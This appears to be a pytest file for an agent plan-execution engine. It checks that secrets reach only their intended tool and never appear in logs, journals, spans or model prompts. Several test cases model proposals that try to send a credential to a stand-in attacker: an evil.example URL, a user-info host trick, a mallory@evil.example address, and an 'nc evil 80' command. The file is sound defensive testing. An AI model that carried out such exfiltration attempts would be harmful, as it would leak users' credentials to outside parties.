"""Secrets: work, dependents and results have true values, and nothing that leaves the run holds one."""

import json
import logging
from pathlib import Path
from typing import Any

import pytest

from replanning import (
    Alternative,
    Plan,
    ReplanningEngine,
    Task,
    TaskContext,
    ToolSpec,
    open_run,
    tool,
)
from replanning.changes import (
    AddTask,
    ModifyTask,
    PlanChange,
    ReplaceTask,
    RetryTask,
    SkipTask,
)
from replanning.errors import CallFailed, ChangeRejected, RunFailed
from replanning.journal import AlternativesConsidered, SqliteStore
from replanning.plan import RunId
from replanning.secrets import Redactor
from replanning.testing import RecordingExporter, ScriptedLLM
from tests.support.runs import Proposer, bodies
from tests.support.tracing import Spans

TOKEN = "tok-9f8e7d6c5b4a"
PASSWORD = "correct-horse-7-battery"

FORMS: dict[str, Any] = {
    "Authorization": "Bearer {env:SHOP_TOKEN}",
    "Cookie": "theme=dark; session={env:SHOP_TOKEN}",
    "X-Api-Key": "key {env:SHOP_TOKEN}",
    "Proxy-Authorization": "Basic {env:SHOP_TOKEN}",
    "X-Token": "{env:SHOP_TOKEN}",
}

ORDER: dict[str, Any] = {
    "goal": {"objective": "order"},
    "tools": [{"name": "order", "kind": "http", "method": "POST", "url": "URL/order"}],
    "tasks": [{"id": "a", "tool": "order"}],
}


def leaks(folder: Path) -> list[str]:
    """The files of a folder that hold one of the secrets."""
    return [
        path.name
        for path in folder.rglob("*")
        if path.is_file()
        and any(secret.encode() in path.read_bytes() for secret in (TOKEN, PASSWORD))
    ]


LOGIN = Plan.model_validate(
    {
        "goal": {"objective": "log in and use the token"},
        "tasks": [
            {"id": "login", "tool": "login"},
            {
                "id": "use",
                "tool": "use",
                "depends_on": ["login"],
                "arguments": {"token": "${login.output.access_token}"},
            },
        ],
    }
)


@pytest.mark.parametrize("repeatable", [True, False])
async def test_token_of_one_task_reaches_the_next(
    tmp_path: Path, caplog: pytest.LogCaptureFixture, *, repeatable: bool
) -> None:
    """A token that a task returns reaches the next task and the result; after a resume the login is repeated or missed."""
    used: list[str] = []
    logins: list[str] = []

    def login() -> dict[str, str]:
        logins.append("login")
        return {"access_token": TOKEN, "user": "eve"}

    def use(token: str) -> str:
        used.append(token)
        return f"used password={PASSWORD}"

    spans = Spans()
    plan = LOGIN
    if repeatable:
        tasks = [LOGIN.tasks[0].model_copy(update={"idempotent": True}), LOGIN.tasks[1]]
        plan = LOGIN.model_copy(update={"tasks": tuple(tasks)})
    settings = {"capture_content": True}
    engine = ReplanningEngine(
        store=SqliteStore(tmp_path / "runs.db"), settings=settings, tracer_provider=spans.provider
    )
    with caplog.at_level(logging.DEBUG, "replanning"):
        result = await engine.execute(plan, tools=[login, use], run_id="whole")
    assert result.ok, result.reason
    assert used == [TOKEN]
    assert result.outputs["login"] == {"access_token": TOKEN, "user": "eve"}
    assert result.outputs["use"] == f"used password={PASSWORD}"
    assert TOKEN not in caplog.text
    assert PASSWORD not in caplog.text
    assert TOKEN not in repr(spans.flat)
    assert leaks(tmp_path) == []
    async with engine.open(plan, run_id="cut") as run:
        async for task in run.ready():
            async with run.attempt(task) as attempt:
                attempt.output = login()
            break
    logins.clear()
    resumed = ReplanningEngine(store=engine.store)
    async with resumed.resume("cut") as run:
        async for task in run.ready():
            async with run.attempt(task) as attempt:
                attempt.output = login() if task.id == "login" else use(**task.arguments)  # type: ignore[arg-type]
    if repeatable:
        assert logins == ["login"]
        assert used == [TOKEN, TOKEN]
        assert run.result.ok
    else:
        assert logins == []
        assert used == [TOKEN]
        assert "looks like a secret" in run.result.failures["use"].message
    await engine.aclose()


SECRET_PLAN = Plan.model_validate(
    {
        "goal": {"objective": "send"},
        "context": {"login": {"password": PASSWORD}},
        "tools": [{"name": "send", "headers": {"Authorization": f"Bearer {TOKEN}"}}],
        "tasks": [
            {"id": "first"},
            {"id": "argument", "depends_on": ["first"], "arguments": {"password": PASSWORD}},
            {"id": "tool", "tool": "send", "depends_on": ["first"]},
            {
                "id": "context",
                "depends_on": ["first"],
                "arguments": {"login": "${context.login}"},
            },
        ],
    }
)


@pytest.mark.parametrize("given", [True, False])
async def test_literal_secrets_of_a_plan_after_a_resume(tmp_path: Path, *, given: bool) -> None:
    """A resumed run has the literal secrets of a plan that is given again; else their tasks fail before their work."""
    engine = ReplanningEngine(store=SqliteStore(tmp_path / "runs.db"), settings={"cooldown": 0})
    async with engine.open(SECRET_PLAN, run_id="r") as run:
        async for task in run.ready():
            async with run.attempt(task):
                pass
            break
    seen: dict[str, object] = {}
    source = engine.run_or_resume(SECRET_PLAN, run_id="r") if given else engine.resume("r")
    async with source as run:
        async for task in run.ready():
            async with run.attempt(task) as attempt:
                tool = attempt.context.tool
                seen[task.id] = [task.arguments, None if tool is None else dict(tool.headers)]
    await engine.aclose()
    if given:
        assert seen == {
            "argument": [{"password": PASSWORD}, None],
            "tool": [{}, {"Authorization": f"Bearer {TOKEN}"}],
            "context": [{"login": {"password": PASSWORD}}, None],
        }
    else:
        assert seen == {}
        messages = {name: failure.message for name, failure in run.result.failures.items()}
        assert messages.keys() == {"argument", "tool", "context"}
        assert all("resume RUN --plan FILE" in message for message in messages.values())
    assert leaks(tmp_path) == []


async def test_masked_context_after_a_resume(tmp_path: Path) -> None:
    """Work of a resumed run that reads a masked part of the context gets an error with the reason."""
    engine = ReplanningEngine(store=SqliteStore(tmp_path / "runs.db"))
    plan = Plan.model_validate(
        {
            "goal": {"objective": "send"},
            "context": {"login": {"password": PASSWORD}, "to": "eve"},
            "tasks": [{"id": "first"}, {"id": "send", "depends_on": ["first"]}],
        }
    )
    async with engine.open(plan, run_id="r") as run:
        async for task in run.ready():
            async with run.attempt(task):
                pass
            break
    async with engine.resume("r") as run:
        async for task in run.ready():
            async with run.attempt(task) as attempt:
                assert attempt.context.context["to"] == "eve"
                with pytest.raises(KeyError, match="'login' holds a secret"):
                    attempt.context.context["login"]
    await engine.aclose()


KEY = "k3y-0123456789"
FETCH: dict[str, Any] = {
    "url": f"https://shop.example/v1/orders?api_key={KEY}&page=1",
    "headers": {"Authorization": f"Bearer {TOKEN}"},
    "login": {"user": "bob", "password": PASSWORD},
    "mail": {"user": "eve", "password": f"{PASSWORD}-2", "to": "eve@shop.example"},
    "auth": f"Bearer {TOKEN}",
    "peers": ["none", f"Bearer {TOKEN}"],
}
SHOWN = Redactor().value(FETCH)
HEADER = {"Authorization": "[redacted]"}
LOST_PLAN = Plan.model_validate(
    {
        "goal": {"objective": "g"},
        "tools": [
            {"name": "fetch", "capability": "read"},
            {"name": "mirror", "capability": "read"},
            {"name": "post"},
        ],
        "tasks": [
            {"id": "a", "tool": "fetch", "arguments": FETCH, "retry": {"max_attempts": 1}},
            {"id": "b", "tool": "fetch", "depends_on": ["a"], "arguments": {"n": 1}},
        ],
    }
)


def new(arguments: Any, tool: str = "fetch", name: str = "new") -> Task:
    """A task that a model proposes."""
    return Task(id=name, tool=tool, arguments=arguments)


def instead(*tasks: Task) -> tuple[PlanChange, ...]:
    """Changes that replace the failed task."""
    return (ReplaceTask(task_id="a", tasks=tasks),)


async def received(changes: tuple[PlanChange, ...]) -> tuple[dict[str, Any], str]:
    """Return the arguments with which proposed tasks are executed, and why the proposal is rejected."""
    seen: dict[str, Any] = {}

    async def work(task: Task, context: TaskContext) -> object:
        if task.id == "a" and task.arguments == FETCH:
            raise OSError("no")
        seen[task.id] = task.arguments
        return None

    given = Alternative(changes=changes, reason="r", confidence=0.9)
    engine = ReplanningEngine(providers=[Proposer(lambda request: [given])])
    await engine.execute(LOST_PLAN, work, run_id="r")
    considered = bodies(engine.store, "r", AlternativesConsidered)[0]
    assert isinstance(considered, AlternativesConsidered)
    stored = repr(list(engine.store.read(RunId("r"))))
    await engine.aclose()
    assert not [secret for secret in (KEY, TOKEN, PASSWORD) if secret in stored]
    seen.pop("b", None)
    return seen, considered.candidates[0].rejected


RETURNS: dict[str, tuple[tuple[PlanChange, ...], dict[str, Any]]] = {
    "as it was, with another number": (
        instead(new({**SHOWN, "retries": 3})),
        {"new": {**FETCH, "retries": 3}},
    ),
    "another tool of the same capability": (instead(new(SHOWN, "mirror")), {"new": FETCH}),
    "another path of the URL": (
        instead(new({"url": "https://shop.example/v2/all", "headers": HEADER})),
        {"new": {"url": "https://shop.example/v2/all", "headers": FETCH["headers"]}},
    ),
    "the parameter of a URL": (
        instead(new({"url": "https://shop.example/v2?page=2&api_key=[redacted]#x"})),
        {"new": {"url": f"https://shop.example/v2?page=2&api_key={KEY}#x"}},
    ),
    "a part of a text": (
        instead(new({"deep": [{"auth": "Bearer [redacted]"}]})),
        {"new": {"deep": [{"auth": f"Bearer {TOKEN}"}]}},
    ),
    "an item of a list": (
        instead(new({"peers": ["some", "Bearer [redacted]"]})),
        {"new": {"peers": ["some", f"Bearer {TOKEN}"]}},
    ),
    "another place under the same name": (instead(new(HEADER)), {"new": FETCH["headers"]}),
    "two tasks": (
        instead(new({"login": SHOWN["login"]}, name="c"), new(HEADER, name="d")),
        {"c": {"login": FETCH["login"]}, "d": FETCH["headers"]},
    ),
    "a task that is added in its place": (
        (SkipTask(task_id="a"), AddTask(task=new(HEADER))),
        {"new": FETCH["headers"]},
    ),
    "the same task with other arguments": (
        (ModifyTask(task_id="a", fields={"arguments": HEADER}), RetryTask(task_id="a")),
        {"a": FETCH["headers"]},
    ),
}

STAYS: dict[str, tuple[tuple[PlanChange, ...], str]] = {
    "another tool": (
        instead(new(HEADER, "post")),
        "is for the tool 'fetch', and does not go to 'post'",
    ),
    "the arguments go to another tool": (
        (ModifyTask(task_id="a", fields={"tool": "post"}), RetryTask(task_id="a")),
        "is for the tool 'fetch', and does not go to 'post'",
    ),
    "another server": (
        instead(new({"url": "https://evil.example/v1", "headers": HEADER})),
        "and 'a' did not: 'https://evil.example'",
    ),
    "another server behind a user": (
        instead(new({"link": "https://shop.example\\@evil.example/", "headers": HEADER})),
        "does not go to what 'new' names",
    ),
    "another server by a reference": (
        instead(new({"url": "${b.output}", "headers": HEADER})),
        "and 'a' did not: '${b.output}'",
    ),
    "another address of mail": (
        instead(new({"text": "for mallory@evil.example", **HEADER})),
        "and 'a' did not: 'mallory@evil.example'",
    ),
    "another recipient": (instead(new({"to": "mallory", **HEADER})), "and 'a' did not: 'mallory'"),
    "another program": (
        instead(new({"command": "nc evil 80", **HEADER})),
        "and 'a' did not: 'nc evil 80'",
    ),
    "another name": (
        instead(new({"note": "[redacted]"})),
        "do without them in the arguments of 'new'",
    ),
    "other text around it": (
        instead(new({"auth": "Basic [redacted]"})),
        "do without them in the arguments of 'new'",
    ),
    "one of two": (
        instead(new({"password": "[redacted]"})),
        "do without them in the arguments of 'new'",
    ),
    "the task of somebody else": (
        (ModifyTask(task_id="b", fields={"arguments": HEADER}),),
        "do without them in the arguments of 'b'",
    ),
}


@pytest.mark.parametrize("case", RETURNS)
async def test_secret_returns_to_where_it_was(case: str) -> None:
    """A mask in a proposal stands for the secret if the same tool gets it under the same name, for no new address."""
    changes, expected = RETURNS[case]
    assert await received(changes) == (expected, "")


@pytest.mark.parametrize("case", STAYS)
async def test_secret_goes_nowhere_else(case: str) -> None:
    """A mask for another tool, address, program, name or text is rejected with the reason, and nothing is executed."""
    changes, reason = STAYS[case]
    seen, rejected = await received(changes)
    assert seen == {}
    assert reason in rejected


async def test_model_is_told_the_rule() -> None:
    """A model is told what a mask stands for and why a proposal is rejected, and its next one brings the secret back."""

    def reply(tool: str) -> str:
        task = {"id": "new", "tool": tool, "arguments": HEADER}
        change = {"kind": "replace", "task_id": "a", "tasks": [task]}
        candidate = {"reason": "r", "confidence": 0.9, "changes": [change]}
        return json.dumps({"candidates": [candidate]})

    seen: dict[str, object] = {}

    async def work(task: Task, context: TaskContext) -> object:
        if task.id == "a":
            raise OSError("no")
        seen[task.id] = task.arguments
        return None

    llm = ScriptedLLM([reply("post"), reply("mirror")])
    result = await ReplanningEngine(providers=[llm]).execute(LOST_PLAN, work)
    assert result.ok, result.reason
    assert seen["new"] == FETCH["headers"]
    first, second = llm.requests
    assert "`[redacted]` stands for a secret" in str(first.options.system)
    assert not [secret for secret in (KEY, TOKEN, PASSWORD) if secret in first.prompt]
    assert "does not go to 'post'" in second.prompt


async def test_edit_of_a_person_follows_the_same_rule() -> None:
    """A person's edit brings a secret back to its tool, and to no other one; the reason is in the error."""
    async with ReplanningEngine().open(LOST_PLAN) as run:
        with pytest.raises(
            ChangeRejected, match="is for the tool 'fetch', and does not go to 'post'"
        ):
            run.replace_task("a", new(HEADER, "post"))
        with pytest.raises(ChangeRejected, match="stands for a value that is not shown"):
            run.modify_task("a", arguments={"name": "[redacted]"})
        run.replace_task("a", new(HEADER, "mirror"))
        assert run.live.entry("new").task.arguments == FETCH["headers"]


async def test_session_has_true_arguments_before_and_after_a_resume(tmp_path: Path) -> None:
    """A call of a session gets its true arguments, also where it is continued in another process."""
    calls: list[str] = []

    async def send(password: str) -> str:
        calls.append(password)
        if len(calls) == 1:
            raise EOFError
        return "sent"

    engine = ReplanningEngine(store=SqliteStore(tmp_path / "r.db"))
    with pytest.raises(EOFError):
        async with engine.session("send", tools=[send], run_id="r", passes=(EOFError,)) as session:
            await session.invoke("send", {"password": PASSWORD}, key="k")
    await engine.aclose()
    engine = ReplanningEngine(store=SqliteStore(tmp_path / "r.db"))
    async with engine.session("send", tools=[send], run_id="r") as session:
        assert await session.invoke("send", {"password": PASSWORD}, key="k") == "sent"
    await engine.aclose()
    assert calls == [PASSWORD, PASSWORD]
    assert leaks(tmp_path) == []


async def test_added_secret_is_masked_from_then_on(tmp_path: Path) -> None:
    """A value that work adds as a secret is masked in outputs, errors and prompts, whatever it looks like."""
    llm = ScriptedLLM(["I do not know."] * 4)
    word = "sesame"
    prompts: list[str] = []

    async def work(task: Task, context: TaskContext) -> object:
        context.add_secret(word)
        if task.id == "b":
            raise OSError(f"{word} was refused")
        return f"open {word}"

    plan = Plan.model_validate(
        {"goal": {"objective": "g"}, "tasks": [{"id": "a"}, {"id": "b", "depends_on": ["a"]}]}
    )
    engine = ReplanningEngine(store=SqliteStore(tmp_path / "runs.db"), providers=[llm])
    result = await engine.execute(plan, work, run_id="r")
    prompts = [str(request) for request in llm.requests]
    await engine.aclose()
    assert result.outputs["a"] == "open sesame"
    stored = "".join(path.read_bytes().decode(errors="replace") for path in tmp_path.iterdir())
    assert "open [redacted]" in stored
    assert word not in stored
    assert prompts
    assert word not in "".join(prompts)


async def test_true_text_of_an_error_is_for_the_caller_alone(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """A secret in the text of an error reaches the caller, and neither journal nor log, prompt, span or notice."""
    llm = ScriptedLLM(["I do not know."] * 4)
    spans = Spans()
    exporter = RecordingExporter()
    text = f"the shop refused api_key={TOKEN}" + " and said more" * 1_000

    async def work(task: Task, context: TaskContext) -> object:
        raise OSError(text)

    engine = ReplanningEngine(
        store=SqliteStore(tmp_path / "runs.db"),
        providers=[llm],
        exporters=[exporter],
        tracer_provider=spans.provider,
    )
    with caplog.at_level(logging.DEBUG):
        result = await engine.execute(Plan.model_validate(ORDER), work, run_id="r")
        prompts = [str(request) for request in llm.requests]
        await engine.aclose()
    failure = result.failures["a"]
    assert failure.message.startswith(text[:1_000])
    assert TOKEN in failure.traceback
    with pytest.raises(RunFailed) as raised:
        result.raise_for_status()
    assert raised.value.failures["a"] == failure
    assert prompts
    assert "the shop refused api_key=[redacted]" in caplog.text
    assert "the shop refused api_key=[redacted]" in str(exporter.records)
    for leaving in (caplog.text, str(prompts), str(exporter.records), spans.text(), result.reason):
        assert TOKEN not in leaving
    assert leaks(tmp_path) == []


async def test_call_raises_the_very_exception_of_its_tool(tmp_path: Path) -> None:
    """A call whose tool fails raises the exception of the tool itself, whose text has the secret; the journal has none."""
    error = OSError(f"the shop refused api_key={TOKEN}")

    @tool
    async def order() -> None:
        raise error

    engine = ReplanningEngine(store=SqliteStore(tmp_path / "runs.db"))
    async with engine.session("order", tools=[order], run_id="r") as session:
        with pytest.raises(OSError, match=TOKEN) as raised:
            await session.call(order)
        assert raised.value is error
    await engine.aclose()
    assert leaks(tmp_path) == []


async def test_failure_of_a_call_without_an_exception_is_told_to_the_caller(tmp_path: Path) -> None:
    """A call that failed elsewhere raises an error that quotes the true text of its failure."""
    plan = Plan.model_validate(ORDER)
    async with open_run(plan, store=SqliteStore(tmp_path / "runs.db")) as run:

        async def work(task: Task, context: TaskContext) -> None:
            run.failed(context.attempt_id, f"the shop refused api_key={TOKEN}")

        with pytest.raises(CallFailed, match=TOKEN):
            await run.perform("a", work)
    assert leaks(tmp_path) == []


def test_references_are_no_secrets() -> None:
    """A reference `{env:NAME}` stays where a secret would be masked, and a secret beside it is masked."""
    redactor = Redactor()
    assert redactor.value(FORMS) == FORMS
    tool = ToolSpec(name="t", headers={"Authorization": "Bearer {env:A}"})
    assert redactor.document(tool) is tool
    beside = redactor.value({"Authorization": "{env:A} hunter2hunter2"})
    assert beside == {"Authorization": "{env:A} [redacted]"}
